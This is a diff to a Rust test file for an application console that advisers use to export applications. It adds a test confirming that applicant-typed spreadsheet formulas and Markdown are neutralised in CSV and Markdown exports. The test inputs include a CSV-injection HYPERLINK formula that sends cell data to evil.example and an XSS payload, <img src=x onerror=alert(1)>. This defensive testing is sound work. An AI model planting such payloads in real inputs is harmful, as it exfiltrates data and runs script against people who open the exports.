@@ -14,9 +14,13 @@ fn drafts(data: &std::path::Path, args: &[&str]) -> (Option<i32>, String, String
 }
 
 fn apply(data: &std::path::Path, lang: &str, confirm_text: &str) -> String {
+    apply_with(data, lang, confirm_text, APPLICATION)
+}
+
+fn apply_with(data: &std::path::Path, lang: &str, confirm_text: &str, answers: &[&str]) -> String {
     let mut c = common::Console::start(data, &["console", "--user", lang, "--lang", lang]);
     c.wait_for("[3]");
-    for a in APPLICATION {
+    for a in answers {
         c.send(a);
     }
     c.wait_for(confirm_text);
@@ -67,6 +71,8 @@ fn an_application_in_two_languages_reaches_the_advisers_command_line() {
     assert_eq!(rows.len(), 3, "{csv}");
     assert!(rows[0].starts_with("id,status,created,platform,language,") && rows[0].contains("amount_requested"));
     assert!(rows[1].contains("\"The Kirkenes choir plans the programme and hosts the concert in Kirkenes; the Luleå choir"), "{}", rows[1]);
+    // A phone number is not a formula to a spreadsheet.
+    assert!(rows[1].contains(",'+47 912 34 567,") && !rows[1].contains(",+47"), "{}", rows[1]);
 
     // Claim, reply, close; the applicant sees the reply and the news at their next session.
     assert_eq!(drafts(data.path(), &["claim", ids[0], "--adviser", "Ola"]).0, Some(0));
@@ -97,4 +103,24 @@ fn an_application_in_two_languages_reaches_the_advisers_command_line() {
     assert_eq!(drafts(data.path(), &["show", "banana"]).0, Some(1));
     assert_eq!(drafts(data.path(), &["export", ids[0], "--format", "csv"]).0, Some(2));
     assert_eq!(drafts(data.path(), &["frobnicate"]).0, Some(2));
+}
+
+/// An applicant who types spreadsheet formulas and Markdown cannot make an adviser's export
+/// run or render them.
+#[test]
+fn what_applicants_type_is_inert_in_every_export() {
+    let data = tempfile::tempdir().unwrap();
+    let mut answers = APPLICATION.to_vec();
+    answers[1] = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
+    answers[12] = "<img src=x onerror=alert(1)> **Singing** [across](http://evil.example)";
+    apply_with(data.path(), "en", "[30]", &answers);
+    let (_, csv, _) = drafts(data.path(), &["export", "--all", "--format", "csv"]);
+    let row = csv.lines().nth(1).unwrap();
+    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example"), "{row}");
+    assert!(!row.contains(",=") && !row.contains(",\"=") && !row.contains(",@") && !row.contains(",+"), "{row}");
+    let (_, list, _) = drafts(data.path(), &["list"]);
+    let id = list.split('\t').next().unwrap();
+    let (_, md, _) = drafts(data.path(), &["show", id]);
+    assert!(md.contains("\\<img src=x onerror=alert(1)\\> \\*\\*Singing\\*\\* \\[across\\](http://evil.example)"), "{md}");
+    assert!(!md.contains("<img") || md.contains("\\<img"), "{md}");
 }
